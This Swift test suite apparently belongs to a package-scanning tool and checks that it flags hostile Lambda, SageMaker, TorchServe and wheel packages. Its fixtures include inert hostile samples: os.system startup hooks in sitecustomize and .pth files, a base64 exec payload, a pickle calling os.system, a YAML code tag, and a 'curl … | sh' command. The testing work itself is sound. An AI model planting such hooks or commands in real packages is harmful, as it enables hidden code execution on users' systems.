import ByteParsing
import Findings
import Linux
import TestSupport
import Testing

/// Packages in ZIP archives, examined as a worker does it.
@Suite struct PackageTests {
  struct Case: Sendable, CustomStringConvertible {
    let members: [(String, String)]
    let rule: String
    var verdict: Verdict = .review
    var format: String?

    var description: String { members.map(\.0).joined(separator: " ") }
  }

  static let concerns: [Case] = [
    Case(
      members: [("python/json.py", "x = 1\n")], rule: "package.shadows-standard-library", verdict: .deny,
      format: "lambda-layer"),
    Case(
      members: [("python/lib/python3.11/site-packages/encodings/__init__.py", "")],
      rule: "package.shadows-standard-library", verdict: .deny),
    Case(members: [("python/boto3.py", "x = 1\n")], rule: "package.shadows-sdk", verdict: .deny),
    Case(
      members: [("lambda_function.py", "def f(e, c): pass\n"), ("os.py", "")],
      rule: "package.shadows-standard-library", verdict: .deny, format: "lambda-function"),
    Case(
      members: [("code/inference.py", "import a\n"), ("code/json.py", "")],
      rule: "package.shadows-standard-library", verdict: .deny, format: "sagemaker-model"),
    Case(members: [("python/dataclasses.py", "import a\n")], rule: "package.replaces-standard-module"),
    Case(members: [("python/sitecustomize.py", "import a\n")], rule: "package.start-up-hook"),
    Case(
      members: [("python/sitecustomize.py", "import os\nos.system('echo')\n")],
      rule: "package.dangerous-start-up-hook", verdict: .deny),
    Case(
      members: [("python/x.pth", "import os; os.system('echo')\n")],
      rule: "package.dangerous-start-up-hook", verdict: .deny),
    Case(members: [("python/x.pth", "./lib\nimport a\n")], rule: "package.start-up-hook"),
    Case(
      members: [
        ("python/x-1.dist-info/entry_points.txt", "[torch.backends]\nx = a.b:c\n"), ("python/a.py", ""),
      ],
      rule: "package.start-up-hook"),
    Case(
      members: [
        ("python/x-1.dist-info/entry_points.txt", "[torch.backends]\nx = os:abort\n"), ("python/a.py", ""),
      ],
      rule: "package.dangerous-start-up-hook", verdict: .deny),
    Case(members: [("extensions/agent", "x"), ("python/a.py", "")], rule: "package.layer-extension"),
    Case(members: [("bin/tool", "x"), ("python/a.py", "")], rule: "package.layer-program"),
    Case(members: [("python/a.pyc", "x")], rule: "package.bytecode-without-source"),
    Case(
      members: [
        ("code/inference.py", "import a\n"), ("code/requirements.txt", "-e git+https://e.org/x\n"),
      ], rule: "package.requirement-source"),
    Case(members: [("etc/.wh.passwd", "")], rule: "package.whiteout", format: "container-layer"),
    Case(
      members: [
        ("oci-layout", "{}"), ("index.json", "{}"),
        ("blobs/sha256/" + String(repeating: "0", count: 64), "x"),
      ], rule: "package.blob-mismatch", verdict: .deny, format: "oci-layout"),
    Case(
      members: [
        ("MAR-INF/MANIFEST.json", "{\"model\": {\"handler\": \"h.py:f\"}}"),
        ("h.py", "def f(d, c): pass\n"),
      ], rule: "package.handler-code", format: "torchserve-mar"),
    Case(
      members: [("MAR-INF/MANIFEST.json", "{\"model\": {\"handler\": \"h\"}}")],
      rule: "package.handler-missing"),
    Case(
      members: [
        ("WAR-INF/MANIFEST.json", "{}"), ("spec.yaml", "a: !!javax.script.ScriptEngineManager [x]\n"),
      ], rule: "config.yaml-code-tag", verdict: .deny, format: "torchserve-war"),
    Case(
      members: [("model_config.yaml", "_target_: os.system\n")], rule: "config.dangerous-target",
      verdict: .deny, format: "nemo"),
    Case(
      members: [("python/m.py", "import base64\nexec(base64.b64decode(D))\n")],
      rule: "python.dangerous-code", verdict: .deny),
  ]

  @Test(arguments: concerns) func `a package is judged by what it runs`(_ sample: Case) {
    let report = Examination.report(PackageBuilder.zip(sample.members))
    #expect(report.rules.contains(sample.rule), "\(report.summary)")
    if sample.verdict == .deny {
      #expect(report.verdict == .deny)
    } else {
      #expect(report.verdict < .deny, "\(report.summary)")
    }
    if let format = sample.format { #expect(report.formats.contains(format), "\(report.formats)") }
  }

  static let honest: [Case] = [
    Case(
      members: [("python/a/json.py", "import a\n"), ("python/typing_extensions.py", "import a\n")],
      rule: "package.shadows-standard-library"),
    Case(members: [("python/boto3/__init__.py", "import a\n")], rule: "package.shadows-sdk"),
    Case(members: [("x/json.py", "import a\n")], rule: "package.shadows-standard-library"),
    Case(members: [("python/x.pth", "./lib\n")], rule: "package.start-up-hook"),
    Case(
      members: [
        (
          "python/distutils-precedence.pth",
          "import os; var = 'A'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
        )
      ], rule: "package.dangerous-start-up-hook"),
    Case(
      members: [
        (
          "python/a-nspkg.pth",
          "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a',));m = not has_mfs and sys.modules.setdefault('a', types.ModuleType('a'))\n"
        )
      ], rule: "package.dangerous-start-up-hook"),
    Case(members: [("extensions/agent", "x")], rule: "package.shadows-sdk"),
    Case(
      members: [("python/a.py", "import a\n"), ("python/__pycache__/a.cpython-311.pyc", "x")],
      rule: "package.bytecode-without-source"),
    Case(
      members: [("code/inference.py", "import a\n"), ("code/requirements.txt", "numpy==1\n")],
      rule: "package.requirement-source"),
    Case(
      members: [
        ("oci-layout", "{}"),
        ("blobs/sha256/2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881", "x"),
      ], rule: "package.blob-mismatch"),
    Case(
      members: [("MAR-INF/MANIFEST.json", "{\"model\": {\"handler\": \"image_classifier\"}}")],
      rule: "package.handler-missing"),
  ]

  @Test(arguments: honest) func `what honest packages have is not held against them`(_ sample: Case) {
    let report = Examination.report(PackageBuilder.zip(sample.members))
    #expect(!report.rules.contains(sample.rule), "\(report.summary)")
    #expect(report.verdict < .deny, "\(report.summary)")
  }

  @Test func `a wheel's files are compared with its record`() {
    let digest = "BrJAlXgrDEe7igFhXyMQkumY_81HoRQgLOdTAVv42f4"
    let honest = Examination.report(PackageBuilder.wheel(module: "import a\n", digest: digest))
    let wrong = Examination.report(PackageBuilder.wheel(module: "import b\n", digest: digest))
    #expect(honest.formats.contains("python-wheel"))
    #expect(
      honest.rules.isDisjoint(with: ["package.record-mismatch", "package.unrecorded-file"]),
      "\(honest.summary)")
    #expect(wrong.rules.contains("package.record-mismatch") && wrong.verdict == .deny)
    let more = Examination.report(
      PackageBuilder.wheel(module: "import a\n", digest: digest, more: [("n.py", "")]))
    #expect(more.rules.contains("package.unrecorded-file") && more.verdict < .deny)
  }

  @Test func `a model in a package is examined as a model`() {
    let pickle: [UInt8] = Array("cos\nsystem\n(S'echo'\ntR.".utf8)
    let report = Examination.report(
      ZIPBuilder([
        .init("MAR-INF/MANIFEST.json", Array("{\"model\": {\"handler\": \"text_classifier\"}}".utf8)),
        .init("model.pt", pickle),
      ]).build())
    #expect(report.verdict == .deny && report.rules.contains("pickle.dangerous-call"))
  }

  @Test func `programs and scripts are named`() {
    let elf: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1] + Array(repeating: 0, count: 9) + [2, 0, 62, 0]
    #expect(Examination.report(elf).rules == ["native.object"])
    #expect(Examination.report(elf).verdict == .review)
    #expect(Examination.report(Array("#!/bin/sh\necho\n".utf8)).rules == ["native.script"])
    #expect(Examination.report(Array("MZqFpD='\n#!/bin/sh\n".utf8)).rules == ["native.executable-weights"])
    #expect(Examination.report([0x00, 0x61, 0x73, 0x6D, 1, 0, 0, 0]).rules == ["native.bytecode"])
  }

  @Test func `a compiled module is judged by what it does when it is imported`() {
    let head: [UInt8] = [0xA7, 0x0D, 0x0D, 0x0A] + Array(repeating: 0, count: 12)
    func module(_ names: [String], _ text: String) -> [UInt8] {
      var bytecode: [UInt8] = [0x97, 0, 0x65, 0]
      bytecode += [0x6A, 1] + Array(repeating: 0, count: 8)
      bytecode += [0x64, 1, 0xA6, 1, 0, 0, 0xAB, 1] + Array(repeating: 0, count: 8)
      return head
        + MarshalValue.code(
          bytecode + [0x53, 0], constants: [.none, .text(text)], names: names, name: "<module>"
        ).bytes
    }
    let hostile = Examination.report(module(["os", "system"], "curl http://127.0.0.1:9 | sh"))
    #expect(
      hostile.rules.contains("code.dangerous-module") && hostile.verdict == .deny, "\(hostile.summary)")
    let honest = Examination.report(module(["os", "system"], "clear"))
    #expect(honest.rules == ["code.module"], "\(honest.summary)")
    #expect(
      Examination.report(Array(module(["os", "system"], "clear").dropLast(20))).verdict >= .incomplete)
  }

  @Test(arguments: ["serving-bundle-hostile", "config-target-injection", "misc-format-hostile"])
  func `nothing of the visible classes that is read here is allowed`(_ kind: String) throws {
    let folder = Examination.root + "/../shared/corpus"
    guard let manifest = try? FileDescriptor.open("\(folder)/hostile/manifest.tsv") else {
      print("NO CORPUS at \(folder): the corpus tests prove nothing here")
      return
    }
    let lines = String(decoding: try manifest.readAll(limit: 1 << 26), as: UTF8.self).split(separator: "\n")
    let rows = lines.filter {
      $0.split(separator: "\t", omittingEmptySubsequences: false).dropFirst(3).first == kind[...]
    }
    #expect(rows.count > 5)
    for row in rows {
      guard let path = row.split(separator: "\t").first else { continue }
      let report = Examination.report(try FileDescriptor.open("\(folder)/\(path)").readAll(limit: 1 << 26))
      #expect(report.verdict != .allow, "\(path): \(report.summary)")
      if path.hasSuffix(".yaml"), !path.contains("yaml_tag") {
        #expect(report.verdict == .deny, "\(path): \(report.summary)")
      }
    }
  }
}
